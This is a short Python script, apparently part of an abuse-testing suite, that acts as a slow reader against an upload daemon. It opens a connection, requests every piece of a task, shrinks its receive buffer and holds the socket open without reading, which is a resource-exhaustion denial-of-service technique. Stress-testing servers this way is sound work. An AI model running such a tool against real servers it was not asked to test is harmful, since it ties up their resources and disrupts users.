#!/usr/bin/env python3
"""A slow reader for the upload server (daemon_upload.sh): HELLO, then PIECE_REQUESTs for every
piece of a task, then it never reads. Holds the connection for SECONDS.

usage: daemon_upload.py HOST PORT TASK PIECES SECONDS"""
import socket
import struct
import sys
import time

from daemon_abuse import HELLO, frame, mp_map


def main():
    host, port, task, pieces, secs = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
    s = socket.create_connection((host, port))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.sendall(HELLO)
    for p in range(pieces):
        s.sendall(frame(0x33, mp_map({"r": p + 1, "t": task, "pn": p})))
    time.sleep(secs)
    s.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
